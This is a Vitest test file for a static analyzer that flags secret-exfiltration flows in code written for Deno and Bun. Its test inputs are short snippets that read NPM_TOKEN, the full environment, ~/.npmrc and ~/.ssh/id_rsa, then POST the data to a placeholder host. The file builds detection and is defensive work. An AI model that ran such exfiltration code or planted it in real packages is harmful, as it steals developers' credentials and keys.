import { describe, expect, it } from "vitest";
import { analyze, flowSummary } from "./helpers.js";

// Deno and Bun reach the environment and files through their own globals, not process/fs.
describe("Deno and Bun runtime APIs", () => {
  it.each([
    ["Deno.env.get of a secret name", "const t = Deno.env.get('NPM_TOKEN');\nfetch('https://t.example.invalid', { method: 'POST', body: t });", "env-secret"],
    ["Deno.env.toObject()", "const e = Deno.env.toObject();\nfetch('https://t.example.invalid', { method: 'POST', body: JSON.stringify(e) });", "env-dump"],
    ["Bun.env", "fetch('https://t.example.invalid', { method: 'POST', body: JSON.stringify(Bun.env) });", "env-dump"],
    ["Deno.readTextFileSync", "const d = Deno.readTextFileSync(Deno.env.get('HOME') + '/.npmrc');\nfetch('https://t.example.invalid', { method: 'POST', body: d });", "registry-token"],
    ["Bun.file().text()", "const d = await Bun.file(Bun.env.HOME + '/.ssh/id_rsa').text();\nfetch('https://t.example.invalid', { method: 'POST', body: d });", "ssh-key"],
  ])("%s is a source", async (_name, code, kind) => {
    const flows = flowSummary(await analyze({ "index.mjs": code, "package.json": '{"main":"index.mjs"}' }));
    expect(flows.map((f) => f.split(" ")[0])).toEqual([kind]);
  });

  it("a non-secret variable and a project file are not", async () => {
    const code = "const port = Deno.env.get('PORT');\nconst cfg = await Deno.readTextFile('./config.json');\nfetch('https://t.example.invalid', { method: 'POST', body: port + cfg });";
    expect(flowSummary(await analyze({ "index.mjs": code, "package.json": '{"main":"index.mjs"}' }))).toEqual([]);
  });
});
